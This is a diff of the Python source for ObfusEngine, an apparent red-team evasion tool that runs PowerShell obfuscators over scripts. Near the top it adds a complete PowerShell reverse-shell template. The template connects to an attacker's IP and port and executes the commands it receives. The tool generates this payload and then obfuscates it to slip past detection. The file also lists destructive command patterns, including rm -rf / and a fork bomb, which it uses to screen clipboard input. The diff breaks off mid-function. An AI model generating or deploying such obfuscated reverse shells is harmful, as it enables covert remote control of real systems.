@@ -1,85 +1,288 @@
 #!/usr/bin/env python3
 import os
+import re
 import sys
-import base64
 import argparse
-import shlex
+import ipaddress
 import logging
-from pathlib import Path
-from rich.console import Console
-from rich.panel import Panel
-from rich.progress import Progress, SpinnerColumn, TextColumn, BarColumn, TaskProgressColumn
-from rich.table import Table
-from rich.prompt import Prompt, Confirm
-from rich.tree import Tree
-from rich.align import Align
-from rich.text import Text
-from rich.layout import Layout
-from rich.columns import Columns
+from functools import partial
+from pathlib import Path, PurePath
+from string import Template
 import subprocess
 import shutil
+import stat
 import time
-import pyperclip
+import queue
+import threading
+
+VERSION = "ObfusEngine v1.0.0"
+PWSH_SENTINEL = "__OBFUSENGINE_DONE__"
+# Multiple of 3 bytes, so encoded chunks concatenate without inner padding
+BASE64_CHUNK_SIZE = 3 * 64 * 1024
+# Filled in by _cwd() the first time the working directory is needed
+_CWD = None
+# Plain os.stat wrapper for the per-technique checks; accepts Path objects
+_exists = os.path.exists
+# Dotted-quad fast path for _is_valid_ip; anything else goes through ipaddress
+_IPV4_RE = re.compile(r'(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9]?[0-9])(?:\.(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9]?[0-9])){3}')
+# Bump when a technique's command line changes, so cached output from the old flags is not reused
+CACHE_VERSION = 1
+# Cached payloads unused for this long are deleted at the start of the next cached run
+CACHE_MAX_AGE = 30 * 24 * 3600
+# Filled in by _cache_dir() the first time the cache is used
+_CACHE_DIR = None
+
+# PowerShell's own variables are escaped as $$; only ${ip} and ${port} are substituted
+_REV_SHELL_TPL = Template('''$$LHOST = "${ip}"; $$LPORT = ${port}; $$TCPClient = New-Object Net.Sockets.TCPClient($$LHOST, $$LPORT); $$NetworkStream = $$TCPClient.GetStream(); $$StreamReader = New-Object IO.StreamReader($$NetworkStream); $$StreamWriter = New-Object IO.StreamWriter($$NetworkStream); $$StreamWriter.AutoFlush = $$true; $$Buffer = New-Object System.Byte[] 1024; while ($$TCPClient.Connected) { while ($$NetworkStream.DataAvailable) { $$RawData = $$NetworkStream.Read($$Buffer, 0, $$Buffer.Length); $$Code = ([text.encoding]::UTF8).GetString($$Buffer, 0, $$RawData -1) }; if ($$TCPClient.Connected -and $$Code.Length -gt 1) { $$Output = try { Invoke-Expression ($$Code) 2>&1 } catch { $$_ }; $$StreamWriter.Write("$$Output`n"); $$Code = $$null } }; $$TCPClient.Close(); $$NetworkStream.Close(); $$StreamReader.Close(); $$StreamWriter.Close()''')
+
+def _install_dir():
+    """Directory holding ObfusEngine.py and Obfuscation_Technique (overridable for wrapper installs)"""
+    return Path(os.environ.get('OBFUS_INSTALL_DIR', Path(__file__).parent)).resolve()
+
+def _cache_dir():
+    """Per-user cache folder, looked up once; empty or relative XDG_CACHE_HOME counts as unset (XDG spec)"""
+    global _CACHE_DIR
+    if _CACHE_DIR is None:
+        xdg_cache = os.environ.get('XDG_CACHE_HOME')
+        base = Path(xdg_cache) if xdg_cache and os.path.isabs(xdg_cache) else Path.home() / ".cache"
+        _CACHE_DIR = base / "obfusengine"
+    return _CACHE_DIR
+
+def _ensure_cache_dir():
+    """Create the cache folder owner-only; it holds copies of generated payloads"""
+    cache_dir = _cache_dir()
+    cache_dir.mkdir(mode=0o700, parents=True, exist_ok=True)
+    return cache_dir
+
+def _prune_cache(max_age=CACHE_MAX_AGE):
+    """Delete cached outputs (and leftover temporaries) not used within max_age seconds"""
+    cutoff = time.time() - max_age
+    try:
+        entries = list(os.scandir(_cache_dir()))
+    except OSError:
+        return
+    for entry in entries:
+        if not entry.name.endswith(('.out', '.tmp')):
+            continue
+        try:
+            if entry.stat().st_mtime < cutoff:
+                os.unlink(entry.path)
+        except OSError:
+            pass
+
+def _cwd():
+    """Process working directory, looked up once; already absolute, so it never needs resolve()"""
+    global _CWD
+    if _CWD is None:
+        _CWD = Path.cwd()
+    return _CWD
+
+def _is_valid_ip(ip_str):
+    """Whether ip_str is an IPv4 or IPv6 address"""
+    # Octet range and leading-zero rules are encoded in the pattern itself
+    if _IPV4_RE.fullmatch(ip_str):
+        return True
+    
+    try:
+        ipaddress.ip_address(ip_str)
+        return True
+    except ValueError:
+        return False
+
+def _ps_quote(value):
+    """Quote a value as a PowerShell single-quoted string literal"""
+    return "'" + str(value).replace("'", "''") + "'"
+
+def _file_digest(path, extra=b""):
+    """Short blake2b digest of a file's contents (plus optional extra bytes)"""
+    import hashlib
+    digest = hashlib.blake2b(digest_size=16)
+    with open(path, "rb") as f:
+        while chunk := f.read(64 * 1024):
+            digest.update(chunk)
+    digest.update(extra)
+    return digest.digest()
+
+def _fast_resolve(raw):
+    """Path for a CLI path string; resolve() is skipped if it is absolute, has no '..' and is not a symlink"""
+    # Only the final component is checked for a link: a symlinked parent directory is left as given
+    path = Path(raw)
+    if path.is_absolute() and '..' not in path.parts and not os.path.islink(raw):
+        return path
+    return path.resolve()
+
+def _env_marker(base_dir):
+    """Per-install marker left by a run whose environment check found everything"""
+    import hashlib
+    key = hashlib.blake2b(str(base_dir).encode(), digest_size=8).hexdigest()
+    return _cache_dir() / f"validated_{key}"
+
+def _env_is_fresh(marker, tool_files):
+    """Whether the marker exists, no tool file has changed since it was written and pwsh/python3 are still on PATH"""
+    try:
+        marked = os.stat(marker).st_mtime
+        if not all(os.stat(f).st_mtime <= marked for f in tool_files):
+            return False
+    except OSError:
+        return False
+    return shutil.which('pwsh') is not None and shutil.which('python3') is not None
+
+def _fast_write(path, data):
+    """Write a generated workspace file with a single open; new files are created owner-only (0600)"""
+    if isinstance(data, str):
+        data = data.encode()
+    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
+    try:
+        view = memoryview(data)
+        while view:
+            view = view[os.write(fd, view):]
+    finally:
+        os.close(fd)
+
+def _read_head(path, limit):
+    """Read at most limit + 1 characters, enough to tell whether a preview needs truncating"""
+    with open(path, 'r') as f:
+        return f.read(limit + 1)
 
 class ObfuscationTool:
+    # Every instance attribute is assigned in __init__ (or setup_logging); no per-instance __dict__
+    __slots__ = (
+        'console', 'script_dir', 'logger', 'techniques_info', '_runners', '_susp_re',
+        '_pwsh', '_pwsh_output', '_pwsh_modules', '_pwsh_preload', '_pwsh_lock',
+        '_validated_env', '_banner_panel', '_clip_cmd', '_valid_keys',
+    )
+    # Path traversal, characters invalid on Windows, and reserved device names (with any extension)
+    _BAD_NAME_RE = re.compile(
+        r'\.\.|[/\\<>:"|?*]|^(?:CON|PRN|AUX|NUL|COM[1-9]|LPT[1-9])(?:\.|$)',
+        re.IGNORECASE
+    )
+    _logging_configured = False
+
     def __init__(self):
-        self.console = Console()
-        self.script_dir = Path(os.environ.get('OBFUS_INSTALL_DIR', Path(__file__).parent)).resolve()
+        # rich and pyperclip are imported where they are used so --help/--version stay fast
+        from rich.console import Console
+        # Styling comes from explicit markup; skip the regex highlighter on every print
+        self.console = Console(highlight=False)
+        self.script_dir = _install_dir()
         self.setup_logging()
+        self._pwsh = None
+        self._pwsh_output = None
+        self._pwsh_modules = set()
+        self._pwsh_preload = []
+        self._pwsh_lock = threading.Lock()
+        self._validated_env = None
+        self._banner_panel = None
+        # Looked up once; show_results pipes the output straight into it
+        self._clip_cmd = self._detect_clip_cmd()
+        # Potentially malicious patterns (basic heuristics) matched in one case-insensitive pass
+        suspicious_patterns = ['rm -rf /', 'del /f /s /q', 'format c:', ':(){ :|:& };:']
+        self._susp_re = re.compile("|".join(map(re.escape, suspicious_patterns)), re.IGNORECASE)
         self.techniques_info = {
             'invoke': {
                 'name': 'Invoke-PSObfuscation',
                 'description': 'PowerShell cmdlets, comments, and variable obfuscation',
                 'type': 'PowerShell',
-                'file': 'Invoke-PSObfuscation.ps1'
+                'file': 'Invoke-PSObfuscation.ps1',
+                'subdir': '',
+                'runtime': 'pwsh'
             },
             'xencrypt': {
                 'name': 'BetterXencrypt',
                 'description': 'Advanced PowerShell encryption and obfuscation',
                 'type': 'PowerShell',
-                'file': 'BetterXencrypt.ps1'
+                'file': 'BetterXencrypt.ps1',
+                'subdir': '',
+                'runtime': 'pwsh'
             },
             'chameleon': {
                 'name': 'Chameleon',
                 'description': 'Multi-layer PowerShell obfuscation with random backticks',
                 'type': 'PowerShell',
-                'file': 'chameleon.py'
+                'file': 'chameleon.py',
+                'subdir': 'Chameleon',
+                'runtime': 'python3'
             },
             'pyfuscation': {
                 'name': 'PyFuscation',
                 'description': 'Python-based PowerShell script obfuscation',
                 'type': 'PowerShell',
-                'file': 'PyFuscation.py'
+                'file': 'PyFuscation.py',
+                'subdir': 'PyFuscation',
+                'runtime': 'python3'
             }
         }
+        self._resolve_paths(self.script_dir)
+        self._runners = {
+            'invoke': self._run_invoke_technique,
+            'xencrypt': self._run_xencrypt_technique,
+            'chameleon': self._run_chameleon_technique,
+            'pyfuscation': self._run_pyfuscation_technique
+        }
+        self._valid_keys = frozenset(self.techniques_info)
+
+    def _resolve_paths(self, base_dir):
+        """Store the full tool path of every technique so it is built only once"""
+        for info in self.techniques_info.values():
+            info['path'] = base_dir / "Obfuscation_Technique" / info['subdir'] / info['file']
+            info.pop('available', None)
+
+    def _is_available(self, technique):
+        """Whether a technique's tool exists, reusing the result of validate_environment"""
+        info = self.techniques_info[technique]
+        if 'available' not in info:
+            info['available'] = info['path'].exists()
+        return info['available']
 
     def setup_logging(self):
         """Setup logging for debugging"""
-        log_file = self.script_dir / "obfusengine.log"
-        logging.basicConfig(
-            level=logging.INFO,
-            format='%(asctime)s - %(levelname)s - %(message)s',
-            handlers=[
-                logging.FileHandler(log_file),
-                logging.StreamHandler(sys.stderr)
-            ]
-        )
         self.logger = logging.getLogger(__name__)
+        if ObfuscationTool._logging_configured:
+            return
+        import atexit
+        from logging.handlers import QueueHandler, QueueListener
+        log_file = self.script_dir / "obfusengine.log"
+        formatter = logging.Formatter('%(asctime)s - %(levelname)s - %(message)s')
+        handlers = [logging.FileHandler(log_file), logging.StreamHandler(sys.stderr)]
+        for handler in handlers:
+            handler.setFormatter(formatter)
+        # File and stderr writes happen on the listener thread; logger calls only enqueue
+        log_queue = queue.Queue(-1)
+        listener = QueueListener(log_queue, *handlers)
+        listener.start()
+        atexit.register(listener.stop)
+        self.logger.addHandler(QueueHandler(log_queue))
+        self.logger.setLevel(logging.INFO)
+        ObfuscationTool._logging_configured = True
 
     def validate_script_path(self, script_path):
         """Validate script path to prevent path traversal and ensure security"""
+        from rich.prompt import Confirm
         try:
+            # Check the path as given; resolve() would follow a link and hide it
+            try:
+                is_link = stat.S_ISLNK(os.lstat(script_path).st_mode)
+            except OSError:
+                is_link = False  # Missing paths are reported by the file check below
+            if is_link:
+                self.logger.warning(f"Symbolic links are not accepted as input: {script_path}")
+                return False
+            
             resolved_path = Path(script_path).resolve()
             
+            # One stat covers both the regular-file and the size check
+            try:
+                st = resolved_path.stat()
+            except OSError:
+                st = None
+                
             # Ensure it's a real file and not a directory
-            if not resolved_path.is_file():
+            if st is None or not stat.S_ISREG(st.st_mode):
                 self.logger.warning(f"Path is not a file: {resolved_path}")
                 return False
-            
+                
             # Check file size (prevent processing extremely large files)
-            file_size = resolved_path.stat().st_size
-            if file_size > 10 * 1024 * 1024:  # 10MB limit
-                self.logger.warning(f"File too large: {file_size} bytes")
+            if st.st_size > 10 * 1024 * 1024:  # 10MB limit
+                self.logger.warning(f"File too large: {st.st_size} bytes")
                 return False
             
             # Basic file extension validation
@@ -94,7 +297,21 @@ class ObfuscationTool:
             self.logger.error(f"Error validating script path: {e}")
             return False
 
-    def show_banner(self):
+    def show_banner(self, *footer):
+        """Print the banner and any follow-up lines in a single render"""
+        from rich.console import Group
+        from rich.text import Text
+        
+        if self._banner_panel is None:
+            self._banner_panel = self._build_banner_panel()
+        self.console.print(Group(self._banner_panel, Text(""), *footer))
+    
+    def _build_banner_panel(self):
+        """Build the static banner panel; show_banner keeps the result"""
+        from rich.align import Align
+        from rich.panel import Panel
+        from rich.text import Text
+        
         banner_text = """
    ██████╗ ██████╗ ███████╗██╗   ██╗███████╗███████╗███╗   ██╗ ██████╗ ██╗███╗   ██╗███████╗
   ██╔═══██╗██╔══██╗██╔════╝██║   ██║██╔════╝██╔════╝████╗  ██║██╔════╝ ██║████╗  ██║██╔════╝
@@ -113,21 +330,23 @@ class ObfuscationTool:
         banner_text_obj.append(" | GitHub: ", style="bold white")
         banner_text_obj.append("https://github.com/vibhasdutta/ObfusEngine", style="bold blue underline")
         
-        panel = Panel(
+        return Panel(
             Align.center(banner_text_obj),
             title="[bold red]🔒 ObfusEngine - Advanced Script Obfuscation Engine 🔒[/]",
             subtitle="[dim]Modular Evasion Framework for Red Team Operations[/]",
             border_style="bright_blue",
             padding=(1, 2)
         )
-        self.console.print(panel)
-        self.console.print()
         
     def get_base_dir(self):
         return self.script_dir
     
-    def show_techniques_menu(self):
-        """Display available obfuscation techniques in a table"""
+    def show_techniques_menu(self, *header):
+        """Display available obfuscation techniques in a table, preceded by any header lines"""
+        from rich.console import Group
+        from rich.table import Table
+        from rich.text import Text
+        
         table = Table(title="🛠️  Available Obfuscation Techniques", show_header=True, header_style="bold magenta")
         table.add_column("ID", style="cyan", no_wrap=True)
         table.add_column("Technique", style="green")
@@ -144,11 +363,13 @@ class ObfuscationTool:
         
         table.add_row("all", "All Techniques", "Combined", "Run all available techniques sequentially")
         
-        self.console.print(table)
-        self.console.print()
+        self.console.print(Group(*header, table, Text("")))
 
     def get_clipboard_content(self):
         """Get script content from clipboard with validation"""
+        import pyperclip
+        from rich.prompt import Confirm
+        
         try:
             clipboard_content = pyperclip.paste()
             if not clipboard_content.strip():
@@ -161,12 +382,9 @@ class ObfuscationTool:
                 return None
             
             # Check for potentially malicious patterns (basic heuristics)
-            suspicious_patterns = ['rm -rf /', 'del /f /s /q', 'format c:', ':(){ :|:& };:']
-            for pattern in suspicious_patterns:
-                if pattern in clipboard_content.lower():
-                    if not Confirm.ask(f"[yellow]⚠️  Potentially dangerous content detected. Continue?[/]"):
-                        return None
-                    break
+            if self._susp_re.search(clipboard_content):
+                if not Confirm.ask(f"[yellow]⚠️  Potentially dangerous content detected. Continue?[/]"):
+                    return None
             
             self.console.print(f"[green]✅ Retrieved {len(clipboard_content)} characters from clipboard[/]")
             self.logger.info(f"Clipboard content retrieved: {len(clipboard_content)} characters")
@@ -177,11 +395,13 @@ class ObfuscationTool:
             return None
 
     def interactive_mode(self):
-        self.show_banner()
+        from rich.prompt import Prompt, Confirm
         
         # Step 1: Choose input method
-        self.console.print("[bold blue]Step 1:[/] Choose your script source")
-        self.console.print("[dim]This tool can generate scripts from scratch or obfuscate existing ones[/]")
+        self.show_banner(
+            "[bold blue]Step 1:[/] Choose your script source",
+            "[dim]This tool can generate scripts from scratch or obfuscate existing ones[/]"
+        )
         
         # Add clipboard option to choices
         input_choice = Prompt.ask(
@@ -235,8 +455,7 @@ class ObfuscationTool:
             self.console.print(f"[green]✅ Will generate reverse shell: {args.ip}:{args.port}[/]")
         
         # Step 2: Choose techniques
-        self.console.print("\n[bold blue]Step 2:[/] Select obfuscation techniques")
-        self.show_techniques_menu()
+        self.show_techniques_menu("\n[bold blue]Step 2:[/] Select obfuscation techniques")
         
         while True:
             techniques_input = Prompt.ask(
@@ -249,6 +468,18 @@ class ObfuscationTool:
             else:
                 self.console.print("[red]❌ Invalid technique selection. Please try again.[/]")
         
+        args.parallel = False
+        if 'all' in techniques_input.lower() or ',' in techniques_input:
+            args.parallel = Confirm.ask(
+                "[green]Run techniques independently (one output per technique) instead of chaining?[/]",
+                default=False
+            )
+        # Cached output is the same payload every time; a fresh run gives a new randomised variant
+        args.no_cache = not Confirm.ask(
+            "[green]Reuse cached output from earlier runs on the same script?[/]",
+            default=True
+        )
+        
         # Step 3: Output settings
         self.console.print("\n[bold blue]Step 3:[/] Output configuration")
         
@@ -257,7 +488,7 @@ class ObfuscationTool:
             output_name = Prompt.ask("[green]Output filename[/]", default="obfuscated.ps1")
             if self.validate_output_filename(output_name):
                 # Add default .ps1 extension if no extension provided
-                if not Path(output_name).suffix:
+                if not PurePath(output_name).suffix:
                     output_name += ".ps1"
                     self.console.print(f"[dim]No extension provided, using: {output_name}[/]")
                 args.output_name = output_name
@@ -269,28 +500,27 @@ class ObfuscationTool:
         args.view = Confirm.ask("[green]Show script contents after obfuscation?[/]", default=True)
         
         # Set other defaults
-        args.directory = str(Path.cwd())
+        args.directory = None
         
         return args
 
     def validate_ip(self, ip_str):
         """Validate IP address format"""
-        import ipaddress
-        try:
-            ipaddress.ip_address(ip_str)
-            return True
-        except ValueError:
-            return False
+        return _is_valid_ip(ip_str)
+
+    def _parse_techniques(self, techniques_str):
+        """Split a -t value into an ordered tuple of technique keys, with 'all' expanded"""
+        techniques = tuple(t.strip().lower() for t in techniques_str.split(','))
+        if 'all' in techniques:
+            return tuple(self.techniques_info)
+        return techniques
 
     def validate_techniques(self, techniques_str):
         """Validate technique selection"""
-        techniques = [t.strip().lower() for t in techniques_str.split(',')]
-        
-        if 'all' in techniques:
-            return True
+        techniques = self._parse_techniques(techniques_str)
         
-        valid_techniques = set(self.techniques_info.keys())
-        invalid_techniques = set(techniques) - valid_techniques
+        # Deduplicated, kept in the order the user typed them
+        invalid_techniques = dict.fromkeys(t for t in techniques if t not in self._valid_keys)
         
         if invalid_techniques:
             self.console.print(f"[red]❌ Unknown techniques: {', '.join(invalid_techniques)}[/]")
@@ -300,35 +530,17 @@ class ObfuscationTool:
 
     def validate_output_filename(self, filename):
         """Validate output filename for security"""
-        try:
-            # Check for path traversal attempts
-            if '..' in filename or '/' in filename or '\\' in filename:
-                return False
-            
-            # Check for reserved names (Windows)
-            reserved_names = {'CON', 'PRN', 'AUX', 'NUL', 'COM1', 'COM2', 'COM3', 'COM4', 
-                            'COM5', 'COM6', 'COM7', 'COM8', 'COM9', 'LPT1', 'LPT2', 
-                            'LPT3', 'LPT4', 'LPT5', 'LPT6', 'LPT7', 'LPT8', 'LPT9'}
-            
-            name_without_ext = Path(filename).stem.upper()
-            if name_without_ext in reserved_names:
-                return False
-            
-            # Check for invalid characters
-            invalid_chars = '<>:"|?*'
-            if any(char in filename for char in invalid_chars):
-                return False
-            
-            # Check length
-            if len(filename) > 255:
-                return False
-            
-            return True
-        except Exception:
-            return False
+        return bool(filename) and len(filename) <= 255 and not self._BAD_NAME_RE.search(filename)
 
     def validate_environment(self, base_dir):
-        """Check if required obfuscation tools are available with enhanced validation"""
+        """Check if required obfuscation tools are available; True when nothing is missing"""
+        from rich.prompt import Confirm
+        from rich.table import Table
+        
+        # Already checked (and confirmed by the user) for this install
+        if self._validated_env and self._validated_env[0] == base_dir:
+            return self._validated_env[1]
+        
         self.console.print("[bold blue]🔍 Validating Environment...[/]")
         
         validation_table = Table(title="Environment Validation", show_header=True)
@@ -337,47 +549,57 @@ class ObfuscationTool:
         validation_table.add_column("Path", style="dim")
         
         tools_status = {}
+        technique_dir = base_dir / "Obfuscation_Technique"
+        
+        # One directory listing per tool folder instead of a stat per tool
+        listings = {}
         
         # Check each technique
         for key, info in self.techniques_info.items():
-            if key == 'invoke':
-                path = base_dir / "Obfuscation_Technique" / info['file']
-            elif key == 'xencrypt':
-                path = base_dir / "Obfuscation_Technique" / info['file']
-            elif key == 'chameleon':
-                path = base_dir / "Obfuscation_Technique" / "Chameleon" / info['file']
-            elif key == 'pyfuscation':
-                path = base_dir / "Obfuscation_Technique" / "PyFuscation" / info['file']
-            
-            status = "✅ Available" if path.exists() else "❌ Missing"
-            tools_status[key] = path.exists()
+            path = info['path']
+            subdir = info['subdir']
+            if subdir not in listings:
+                try:
+                    listings[subdir] = {entry.name for entry in os.scandir(technique_dir / subdir)}
+                except OSError:
+                    listings[subdir] = set()
+            
+            # Fall back to a stat only for misses (e.g. case-insensitive filesystems)
+            exists = info['file'] in listings[subdir] or path.exists()
+            info['available'] = exists
+            
+            status = "✅ Available" if exists else "❌ Missing"
+            tools_status[key] = exists
             validation_table.add_row(info['name'], status, str(path))
             
             # Log the validation results
-            if path.exists():
+            if exists:
                 self.logger.info(f"Tool {key} found at {path}")
             else:
                 self.logger.warning(f"Tool {key} missing at {path}")
         
         # Check PowerShell availability
-        pwsh_available = shutil.which('pwsh') is not None
+        pwsh_path = shutil.which('pwsh')
+        pwsh_available = pwsh_path is not None
         validation_table.add_row(
             "PowerShell Core", 
             "✅ Available" if pwsh_available else "❌ Missing",
-            shutil.which('pwsh') or "Not found"
+            pwsh_path or "Not found"
         )
         
         # Check Python3 availability
-        python_available = shutil.which('python3') is not None
+        python_path = shutil.which('python3')
+        python_available = python_path is not None
         validation_table.add_row(
             "Python 3", 
             "✅ Available" if python_available else "❌ Missing",
-            shutil.which('python3') or "Not found"
+            python_path or "Not found"
         )
         
         self.console.print(validation_table)
         
         missing_tools = [k for k, v in tools_status.items() if not v]
+        complete = not missing_tools and pwsh_available and python_available
         if missing_tools:
             self.console.print(f"\n[bold red]⚠️  Warning: Missing tools: {', '.join(missing_tools)}[/]")
             self.logger.warning(f"Missing tools: {missing_tools}")
@@ -391,180 +613,412 @@ class ObfuscationTool:
             self.console.print("\n[bold yellow]⚠️  PowerShell Core not found. PowerShell-based techniques will fail.[/]")
         
         self.console.print()
+        self._validated_env = (base_dir, complete)
+        return complete
 
     def obfuscate_script(self, args, input_script, workspace, base_dir):
         """Enhanced obfuscation with progress tracking and better error handling"""
         output_script = workspace / args.output_name
-        techniques = [t.strip().lower() for t in args.technique.split(',')]
-        
-        if 'all' in techniques:
-            techniques = list(self.techniques_info.keys())
+        # Computed once here; show_results and the encode step reuse them
+        args._output_script = output_script
+        stem = getattr(args, '_output_stem', None) or PurePath(args.output_name).stem
+        args._encoded_path = workspace / f"{stem}_base64.txt"
+        # Parsed once in main(); execution (and chaining) order is the order given
+        techniques = getattr(args, 'techniques', None) or self._parse_techniques(args.technique)
+        if getattr(args, 'parallel', False):
+            # Each technique gets one variant file and one progress task, so repeats would collide
+            techniques = tuple(dict.fromkeys(techniques))
+        # Unknown names are skipped later, so a single real technique takes the chained path
+        parallel = getattr(args, 'parallel', False) and sum(t in self.techniques_info for t in techniques) > 1
         
         self.console.print(f"[bold green]🎯 Target Script:[/] {input_script}")
         self.console.print(f"[bold green]📁 Output Location:[/] {output_script}")
-        self.console.print(f"[bold green]🔧 Techniques:[/] {', '.join(techniques)}\n")
+        self.console.print(f"[bold green]🔧 Techniques:[/] {', '.join(techniques)}")
+        
+        use_cache = not getattr(args, 'no_cache', False)
+        if use_cache:
+            _prune_cache()
+        
+        # Modules the PowerShell session imports as soon as it starts
+        self._pwsh_preload = [
+            self.techniques_info[t]['path'] for t in techniques
+            if t in self.techniques_info and self.techniques_info[t]['runtime'] == 'pwsh' and self._is_available(t)
+        ]
+        mode = "Parallel (one output per technique)" if parallel else "Chained"
+        self.console.print(f"[bold green]🔀 Mode:[/] {mode}\n")
+        
+        self.logger.info(f"Starting obfuscation: input={input_script}, output={output_script}, techniques={techniques}, parallel={parallel}")
+        
+        try:
+            # Redirected/CI output gets the plain per-technique lines without rich's live renderer
+            if not self.console.is_terminal:
+                successful_techniques = self._run_all(
+                    techniques, parallel, input_script, output_script, base_dir, None, use_cache
+                )
+            else:
+                from rich.progress import Progress, TextColumn, BarColumn, TaskProgressColumn
+                with Progress(
+                    TextColumn("[progress.description]{task.description}"),
+                    BarColumn(),
+                    TaskProgressColumn(),
+                    console=self.console,
+                    refresh_per_second=4
+                ) as progress:
+                    successful_techniques = self._run_all(
+                        techniques, parallel, input_script, output_script, base_dir, progress, use_cache
+                    )
+        finally:
+            self.close_pwsh_session()
         
-        self.logger.info(f"Starting obfuscation: input={input_script}, output={output_script}, techniques={techniques}")
+        final_success = output_script.exists() and len(successful_techniques) > 0
+        
+        if final_success:
+            self.logger.info(f"Obfuscation completed successfully. Techniques used: {successful_techniques}")
+        else:
+            self.logger.error("Obfuscation failed - no techniques succeeded")
         
-        with Progress(
-            SpinnerColumn(),
-            TextColumn("[progress.description]{task.description}"),
-            BarColumn(),
-            TaskProgressColumn(),
-            console=self.console
-        ) as progress:
+        return final_success
+
+    def _run_all(self, techniques, parallel, input_script, output_script, base_dir, progress=None, use_cache=True):
+        """Dispatch to the parallel or chained runner; progress is None when not on a terminal"""
+        main_task = progress.add_task("Overall Progress", total=len(techniques)) if progress else None
+        runner = self._run_parallel if parallel else self._run_chained
+        return runner(techniques, input_script, output_script, base_dir, progress, main_task, use_cache)
+
+    def _run_chained(self, techniques, input_script, output_script, base_dir, progress, main_task, use_cache=True):
+        """Run techniques in order, feeding each successful output into the next technique"""
+        successful_techniques = []
+        previous_digest = _file_digest(input_script)
+        
+        for i, technique in enumerate(techniques):
+            if technique not in self.techniques_info:
+                self.console.print(f"[red]❌ Unknown technique: {technique}[/]")
+                continue
             
-            main_task = progress.add_task("Overall Progress", total=len(techniques))
-            successful_techniques = []
+            # Indeterminate (pulsing) until the tool returns
+            technique_task = progress.add_task(
+                f"Running {self.techniques_info[technique]['name']}", 
+                total=None
+            ) if progress else None
+            success = False
             
-            for i, technique in enumerate(techniques):
-                if technique not in self.techniques_info:
-                    self.console.print(f"[red]❌ Unknown technique: {technique}[/]")
-                    continue
+            try:
+                success = self._run_technique(technique, input_script, output_script, base_dir, use_cache)
                 
-                technique_task = progress.add_task(
-                    f"Running {self.techniques_info[technique]['name']}", 
-                    total=100
-                )
+                if success:
+                    self.console.print(f"[green]✅ {self.techniques_info[technique]['name']} completed[/]")
+                    successful_techniques.append(technique)
+                    self.logger.info(f"Technique {technique} completed successfully")
+                else:
+                    self.console.print(f"[red]❌ {self.techniques_info[technique]['name']} failed[/]")
+                    self.logger.error(f"Technique {technique} failed")
                 
-                # Simulate progress for demonstration
-                for step in range(0, 101, 20):
-                    progress.update(technique_task, completed=step)
-                    time.sleep(0.1)
+            except Exception as e:
+                self.console.print(f"[red]❌ {self.techniques_info[technique]['name']} encountered an error: {e}[/]")
+                self.logger.error(f"Technique {technique} error: {e}")
+            
+            if progress:
+                progress.update(technique_task, total=100, completed=100 if success else 0)
+                progress.update(main_task, advance=1)
+            
+            # Update input for next technique (chaining) only if current technique changed the script
+            if success and output_script.exists():
+                current_digest = _file_digest(output_script)
+                if current_digest == previous_digest:
+                    self.console.print(f"[yellow]⚠️  {self.techniques_info[technique]['name']} left the script unchanged[/]")
+                    self.logger.info(f"Technique {technique} was a no-op, skipping chain update")
+                else:
+                    input_script = output_script
+                    previous_digest = current_digest
+        
+        return successful_techniques
+
+    def _run_parallel(self, techniques, input_script, output_script, base_dir, progress, main_task, use_cache=True):
+        """Run techniques independently against the original script, writing one output per technique"""
+        from concurrent.futures import ThreadPoolExecutor, as_completed
+        
+        jobs = {}
+        for technique in techniques:
+            if technique not in self.techniques_info:
+                self.console.print(f"[red]❌ Unknown technique: {technique}[/]")
+                if progress:
+                    progress.update(main_task, advance=1)
+                continue
+            
+            technique_task = progress.add_task(
+                f"Running {self.techniques_info[technique]['name']}",
+                total=None
+            ) if progress else None
+            variant_script = output_script.with_name(f"{technique}_{output_script.name}")
+            jobs[technique] = (technique_task, variant_script)
+        
+        if not jobs:
+            return []
+        
+        succeeded = set()
+        # Every technique is an external process, so threads only wait on I/O
+        # and the pool is sized to the job count rather than the CPU count
+        with ThreadPoolExecutor(max_workers=len(jobs)) as executor:
+            futures = {}
+            for technique, (technique_task, variant_script) in jobs.items():
+                future = executor.submit(
+                    self._run_technique, technique, input_script, variant_script, base_dir, use_cache
+                )
+                futures[future] = technique
+            
+            for future in as_completed(futures):
+                technique = futures[future]
+                technique_task, variant_script = jobs[technique]
+                name = self.techniques_info[technique]['name']
+                success = False
                 
                 try:
-                    success = self._run_technique(technique, input_script, output_script, base_dir)
-                    
+                    success = future.result()
                     if success:
-                        progress.update(technique_task, completed=100)
-                        self.console.print(f"[green]✅ {self.techniques_info[technique]['name']} completed[/]")
-                        successful_techniques.append(technique)
+                        self.console.print(f"[green]✅ {name} completed: {variant_script}[/]")
+                        succeeded.add(technique)
                         self.logger.info(f"Technique {technique} completed successfully")
                     else:
-                        self.console.print(f"[red]❌ {self.techniques_info[technique]['name']} failed[/]")
+                        self.console.print(f"[red]❌ {name} failed[/]")
                         self.logger.error(f"Technique {technique} failed")
-                    
                 except Exception as e:
-                    self.console.print(f"[red]❌ {self.techniques_info[technique]['name']} encountered an error: {e}[/]")
+                    self.console.print(f"[red]❌ {name} encountered an error: {e}[/]")
                     self.logger.error(f"Technique {technique} error: {e}")
                 
-                progress.update(main_task, advance=1)
-                
-                # Update input for next technique (chaining) only if current technique succeeded
-                if success and output_script.exists():
-                    input_script = output_script
+                if progress:
+                    progress.update(technique_task, total=100, completed=100 if success else 0)
+                    progress.update(main_task, advance=1)
         
-        final_success = output_script.exists() and len(successful_techniques) > 0
+        successful_techniques = [t for t in jobs if t in succeeded]
         
-        if final_success:
-            self.logger.info(f"Obfuscation completed successfully. Techniques used: {successful_techniques}")
-        else:
-            self.logger.error("Obfuscation failed - no techniques succeeded")
+        # The last successful variant (in selection order) becomes the main output
+        if successful_techniques:
+            shutil.copyfile(jobs[successful_techniques[-1]][1], output_script)
         
-        return final_success
+        return successful_techniques
 
-    def _run_technique(self, technique, input_script, output_script, base_dir):
+    def _run_technique(self, technique, input_script, output_script, base_dir, use_cache=True):
         """Run individual obfuscation technique with enhanced security and error handling"""
         try:
             self.logger.info(f"Running technique: {technique}")
             
-            if technique == "invoke":
-                return self._run_invoke_technique(input_script, output_script, base_dir)
-            elif technique == "xencrypt":
-                return self._run_xencrypt_technique(input_script, output_script, base_dir)
-            elif technique == "chameleon":
-                return self._run_chameleon_technique(input_script, output_script, base_dir)
-            elif technique == "pyfuscation":
-                return self._run_pyfuscation_technique(input_script, output_script, base_dir)
-            else:
